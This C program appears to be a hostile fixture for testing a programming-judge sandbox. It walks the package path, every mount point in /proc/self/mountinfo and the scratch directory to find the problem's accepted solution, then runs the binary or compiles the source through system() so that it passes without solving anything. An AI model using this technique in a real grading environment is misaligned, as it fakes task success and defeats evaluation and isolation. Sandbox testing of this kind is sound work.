// attack: find the package (its path compiled in, every mount point of /proc/self/mountinfo) and run its accepted solution: the binary, its source through cc, or a copy of it staged in the judge's scratch directory
// setup: package (tests/hostile_package.rs)
#include <dirent.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void try_exec(const char *path) {
    if (access(path, X_OK) == 0) execl(path, path, (char *)0);
}

static void try_source(const char *path) {
    char cmd[PATH_MAX * 2];
    if (access(path, R_OK) != 0) return;
    snprintf(cmd, sizeof cmd, "cc -O2 -o ./stolen '%s' 2>/dev/null", path);
    if (system(cmd) == 0) try_exec("./stolen");
}

static void try_root(const char *root) {
    char p[PATH_MAX];
    snprintf(p, sizeof p, "%s/submissions/accepted/good", root);
    try_exec(p);
    snprintf(p, sizeof p, "%s/submissions/accepted/good.c", root);
    try_source(p);
    snprintf(p, sizeof p, "%s/pkg/submissions/accepted/good", root);
    try_exec(p);
}

/* Any file named good (or good.c) below dir: a staged copy. */
static void walk(const char *dir, int depth) {
    DIR *d = opendir(dir);
    struct dirent *e;
    if (!d || depth < 0) { if (d) closedir(d); return; }
    while ((e = readdir(d))) {
        char p[PATH_MAX];
        struct stat st;
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        if (lstat(p, &st) != 0) continue;
        if (S_ISDIR(st.st_mode)) walk(p, depth - 1);
        else if (!strcmp(e->d_name, "good")) try_exec(p);
        else if (!strcmp(e->d_name, "good.c")) try_source(p);
    }
    closedir(d);
}

int main(void) {
    char line[8192], mp[4096], cwd[PATH_MAX];
    FILE *m;
    try_root("@PKG@");
    m = fopen("/proc/self/mountinfo", "r");
    while (m && fgets(line, sizeof line, m))
        if (sscanf(line, "%*s %*s %*s %*s %4095s", mp) == 1) try_root(mp);
    if (getcwd(cwd, sizeof cwd)) {
        char *slash = strrchr(cwd, '/');
        if (slash) *slash = 0;
        walk(cwd, 4);
    }
    walk("@SCRATCH@", 5);
    /* Nothing found: a wrong answer. */
    printf("0\n0\n");
    return 0;
}
